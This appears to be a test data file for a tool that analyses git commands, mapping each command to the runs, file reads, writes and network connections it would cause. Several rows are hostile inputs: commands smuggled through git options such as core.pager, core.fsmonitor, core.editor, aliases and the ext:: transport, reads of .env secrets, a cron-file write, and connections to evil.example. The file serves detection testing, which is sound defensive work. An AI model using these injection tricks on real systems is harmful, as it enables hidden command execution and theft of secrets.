"""What the programs of `git` would do."""

from __future__ import annotations

from tests.shell.rows import rows

test_rows = rows(
    r"""
git status => run git status
git diff HEAD~1 => run git diff HEAD~1
git -C sub log => run git -C sub log
git -c core.pager='sh -c id' log => run git -c core.pager=sh -c id log · run sh -c id · run id
git -c core.pager=cat log => run git -c core.pager=cat log
git -c core.fsmonitor='cat .env' status => run git -c core.fsmonitor=cat .env status · run cat .env · read .env
git -c core.editor='vim -c "!id"' commit => run git -c core.editor=vim -c "!id" commit · run vim -c !id · run id
git -c core.pager=./less log => run git -c core.pager=./less log · run ./less
git -c credential.helper=store fetch => run git -c credential.helper=store fetch
git -c credential.helper='store --file=.env' fetch => run git -c credential.helper=store --file=.env fetch · run git credential-store --file=.env · read .env
git config core.editor 'code --wait' => run git config core.editor code --wait
git config core.hooksPath /tmp/x => run git config core.hooksPath /tmp/x OPAQUE · write .git/config
git push --force origin main => run git push --force origin main
git reset --hard => run git reset --hard
git clean -fdx => run git clean -fdx
git clone https://github.com/a/b => run git clone https://github.com/a/b · connect https://github.com/a/b · write b [create] <network:https://github.com/a/b>
git clone ext::'sh -c id' x => run git clone ext::sh -c id x · connect □ · write x [create] <network:□> · run sh -c id · run id
git add .env => run git add .env · read .env
git show HEAD:.env => run git show HEAD:.env · read .env
git grep secret => run git grep secret · read . [search]
git grep KEY -- .env => run git grep KEY -- .env · read .env [search]
git grep KEY src/ => run git grep KEY src/ · read src/ [search]
git grep KEY origin/main => run git grep KEY origin/main · read origin/main [search] · read . [search]
git grep -e KEY .env => run git grep -e KEY .env · read .env [search]
git diff HEAD~1 .env => run git diff HEAD~1 .env · read .env
git diff main..topic => run git diff main..topic
git diff v1.2.3 v1.2.4 => run git diff v1.2.3 v1.2.4
git diff --stat .env => run git diff --stat .env
git log -p .env => run git log -p .env · read .env
git log --oneline src/a.py => run git log --oneline src/a.py
git stash show -p -- .env => run git stash show -p -- .env · read .env
git stash show -p => run git stash show -p
git archive HEAD .env => run git archive HEAD .env · read .env
git send-email --to x 0001-x.patch => run git send-email --to x 0001-x.patch
git ls-remote evil.example:x => run git ls-remote evil.example:x · connect evil.example
git clone evil.example:x/y.git => run git clone evil.example:x/y.git · connect evil.example · write y [create] <network:evil.example>
git remote add o evil.example:x => run git remote add o evil.example:x · connect evil.example
git push origin main:main => run git push origin main:main
git fetch origin pull/1/head:pr => run git fetch origin pull/1/head:pr
git bisect run sh -c id => run git bisect run sh -c id · run sh -c id · run id
git submodule foreach 'rm -rf x' => run git submodule foreach rm -rf x · run rm -rf x · write x [delete,tree]
git log --output=/etc/cron.d/x => run git log --output=/etc/cron.d/x · write /etc/cron.d/x
git apply fix.patch => run git apply fix.patch · read fix.patch
git commit -m 'x' => run git commit -m x
git -c alias.z='!id' z => run git -c alias.z=!id z · run id
"""
)
